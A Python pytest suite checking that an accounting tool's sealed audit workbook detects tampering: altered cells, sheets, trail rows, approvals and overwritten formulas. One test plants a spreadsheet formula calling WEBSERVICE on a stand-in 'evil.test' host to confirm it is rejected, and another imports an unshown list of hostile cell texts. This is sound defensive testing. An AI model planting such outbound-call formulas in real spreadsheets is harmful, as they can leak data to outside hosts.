"""A workbook checked by itself: whole it holds, and whatever is changed in it is found, by each check alone."""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from awra_desk.audit.checks import Finding
from awra_desk.audit.pack import build
from awra_desk.audit.pack_check import PackCheck, check_pack
from awra_desk.audit.seal import ALL, SEAL, Seal, cells_digest, whole
from awra_desk.domain.errors import UsageError
from awra_desk.domain.trail import GENESIS
from awra_desk.exporters.xlsx import XlsxWriter
from awra_desk.exporters.xlsx_read import XlsxReader
from awra_desk.ports.workbook import Cell, Formula, Link, ReadSheet, Sheet, Style, Value
from tests.unit.audit.pack_sample import NOW, audit_pack, reconciliation_pack
from tests.unit.exporters.hostile import HOSTILE

Grids = dict[str, list[list[Value]]]


def write(path: Path, seal: Seal | None = None, **limits: int) -> Path:
    pack = audit_pack(reconciliation_pack(orders=24))
    XlsxWriter().write(build(pack, seal=seal, **limits), path, title="t", author="a", created=NOW)
    return path


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write(tmp_path_factory.mktemp("pack") / "pack.xlsx")


@pytest.fixture(scope="module")
def sheets(path: Path) -> list[ReadSheet]:
    return XlsxReader().read(path)


def changed(sheets: list[ReadSheet], change: Callable[[Grids], object], *, reseal: bool = False) -> PackCheck:
    """The check of a changed copy; with `reseal` whoever changed it rewrote the seal, too."""
    grids: Grids = {sheet.name: [list(row) for row in sheet.rows] for sheet in sheets}
    change(grids)
    if reseal:
        lines = [(name, cells_digest(rows)) for name, rows in grids.items() if name != SEAL]
        grids[SEAL][3:] = [*map(list, lines), [ALL, whole(lines)]]
    return check_pack([ReadSheet(name, rows) for name, rows in grids.items()])


def failed(check: PackCheck) -> list[str]:
    return [item.name for item in check.checks if not item.holds]


def column(rows: list[list[Value]], title: str) -> int:
    return rows[3].index(title)


def test_a_whole_workbook_holds(sheets: list[ReadSheet]) -> None:
    check = check_pack(sheets)
    assert failed(check) == []
    counts = {item.name: item.checked for item in check.checks}
    assert counts["seal"] == len(sheets) - 1
    assert counts["totals"] > 100
    assert (counts["trail"], check.head.sequence) == (12, 12)
    assert counts["approvals"] > 1


def test_split_sheets_and_long_texts_hold_too(tmp_path: Path) -> None:
    seal = Seal()
    check = check_pack(XlsxReader().read(write(tmp_path / "split.xlsx", seal, row_limit=25, text_limit=120)))
    assert failed(check) == []
    assert check.contents == seal.digest


def looks(value: Value) -> Style:
    return Style.DAY if isinstance(value, date) and not isinstance(value, datetime) else Style.TEXT


def test_a_seal_reads_what_was_written(tmp_path: Path) -> None:
    """Texts that hurt readers, figures at a spreadsheet's limits, days before its calendar, instants."""
    values: list[Value] = [
        *HOSTILE, "", None, 0, -0, Decimal("-0.00"), Decimal("1.50"), Decimal("123456789012.345"), 10**15, -(10**20),
        Decimal("1234567890123456.70"), Decimal("1E+3"), date(2026, 10, 31), date(1899, 1, 1), NOW, Link("Texts"),
        Formula("=1+1", 2), Formula('="a"', ""), Formula("=SUM(A1)", Decimal("0.10")),
    ]  # fmt: skip
    seal = Seal()
    rows = [[Cell("Company"), Cell("co")], [Cell("Trail head, row 0"), Cell(GENESIS)]]
    cover = Sheet("Cover", (10, 10), rows, 2)
    texts = Sheet("Texts", (10,) * 3, [[Cell(None), Cell(value, looks(value)), Cell("end")] for value in values], 2)
    XlsxWriter().write(seal.over([cover, texts]), tmp_path / "x.xlsx", title="t", author="a", created=NOW)
    check = check_pack(XlsxReader().read(tmp_path / "x.xlsx"))
    assert (check.contents, check.checks[0].findings) == (seal.digest, ())


def test_the_seal_is_written_last() -> None:
    sheets = Seal().over([Sheet("A", (10,), [[Cell(1)]], 2)])
    with pytest.raises(RuntimeError, match="after every other sheet"):
        list(sheets[-1].rows)


def test_any_changed_cell_is_found(sheets: list[ReadSheet]) -> None:
    """One cell anywhere: text, number, day, formula or its cached value."""
    chance = random.Random(8)
    places = [
        (sheet.name, row, place)
        for sheet in sheets
        for row, values in enumerate(sheet.rows)
        for place, value in enumerate(values)
        if value is not None
    ]
    for name, row, place in chance.sample(places, 25):

        def change(grids: Grids, name: str = name, row: int = row, place: int = place) -> None:
            value = grids[name][row][place]
            if isinstance(value, Formula):
                value = dataclasses.replace(value, cached="x" if chance.random() < 0.5 else Decimal("1.11"))
            else:
                value = f"{value}." if isinstance(value, str) else Decimal("987.65")
            grids[name][row][place] = value

        try:
            assert failed(changed(sheets, change)), (name, row, place)
        except UsageError:
            assert name == "Cover"  # its very labels were changed


@pytest.mark.parametrize(
    "change",
    [
        lambda grids: grids.pop("1.3 Items"),
        lambda grids: grids.update({"New": [["x"]]}),
        lambda grids: grids["Exceptions"].pop(6),
        lambda grids: grids["Exceptions"].append(["x"]),
        lambda grids: grids.update({"1.3 Items": grids.pop("1.3 Items")}),
        lambda grids: grids.pop(SEAL),
        lambda grids: grids[SEAL].pop(),
        lambda grids: grids[SEAL].pop(5),
    ],
)
def test_sheets_and_rows_that_come_or_go_break_the_seal(
    sheets: list[ReadSheet], change: Callable[[Grids], object]
) -> None:
    assert "seal" in failed(changed(sheets, change))


def test_a_changed_amount_is_found_by_the_totals_though_the_seal_was_rewritten(sheets: list[ReadSheet]) -> None:
    def change(grids: Grids) -> None:
        rows = grids["1.1 Source"]
        rows[9][column(rows, "Amount USD")] = Decimal("1.23")

    check = changed(sheets, change, reseal=True)
    assert failed(check) == ["totals"]
    found = next(item for item in check.checks if item.name == "totals").findings
    assert any(item.place.startswith("sheet 1 Statement, cell ") for item in found)


def test_a_figure_typed_over_its_formula_is_found(sheets: list[ReadSheet]) -> None:
    def change(grids: Grids) -> None:
        rows = grids["1 Statement"]
        row = next(row for row in rows if len(row) > 1 and row[1] == "Reported less calculated")
        row[3] = Decimal(0)

    assert failed(changed(sheets, change)) == ["seal"]


TRAIL = {
    "edit": lambda rows: rows[8].__setitem__(2, "eve"),
    "delete": lambda rows: rows.pop(8),
    "swap": lambda rows: rows.insert(8, rows.pop(9)),
    "insert": lambda rows: rows.insert(8, list(rows[8])),
    "truncate": lambda rows: rows.pop(),
    "detail": lambda rows: rows[8].__setitem__(5, "no JSON"),
    "time": lambda rows: rows[8].__setitem__(1, "yesterday"),
}


@pytest.mark.parametrize("kind", TRAIL)
def test_a_changed_trail_is_found_though_the_seal_was_rewritten(sheets: list[ReadSheet], kind: str) -> None:
    check = changed(sheets, lambda grids: TRAIL[kind](grids["Trail"]), reseal=True)
    assert "trail" in failed(check)


@pytest.mark.parametrize(
    ("title", "value", "said"),
    [
        ("Payload", "{}", "The payload is not the one that its digest was made of."),
        ("Payload digest", "0" * 64, "What was approved is not this payload."),
        ("Approved by", None, "It went on without an approval."),
        ("Maker", "otieno", "otieno approved an entry of their own."),
        ("Last editor", "otieno", "otieno approved an entry of their own."),
    ],
)
def test_a_changed_entry_is_found_though_the_seal_was_rewritten(
    sheets: list[ReadSheet], title: str, value: str | None, said: str
) -> None:
    def change(grids: Grids) -> None:
        rows = grids["Entries"]
        rows[-1][column(rows, title)] = value

    check = changed(sheets, change, reseal=True)
    assert failed(check) == ["approvals"]
    assert said in [finding.what for item in check.checks for finding in item.findings]


def test_a_formula_of_another_kind_is_found(sheets: list[ReadSheet]) -> None:
    def change(grids: Grids) -> None:
        grids["Cover"][5][1] = Formula('=WEBSERVICE("https://evil.test")', "x")

    check = changed(sheets, change, reseal=True)
    said = Finding("sheet Cover, cell B6", "The formula cannot be computed: the function WEBSERVICE is none of ours")
    assert said in check.checks[1].findings


def test_what_is_no_audit_workbook_is_said(tmp_path: Path) -> None:
    text, other = tmp_path / "text.xlsx", tmp_path / "other.xlsx"
    text.write_text("no workbook")
    openpyxl.Workbook().save(other)
    reader = XlsxReader()
    for path in (text, tmp_path / "gone.xlsx", other):
        with pytest.raises(UsageError) as caught:
            check_pack(reader.read(path))
        assert caught.value.remedy
    damaged = tmp_path / "damaged.xlsx"
    damaged.write_bytes(write(tmp_path / "whole.xlsx").read_bytes()[:-2_000])
    with pytest.raises(UsageError):
        reader.read(damaged)
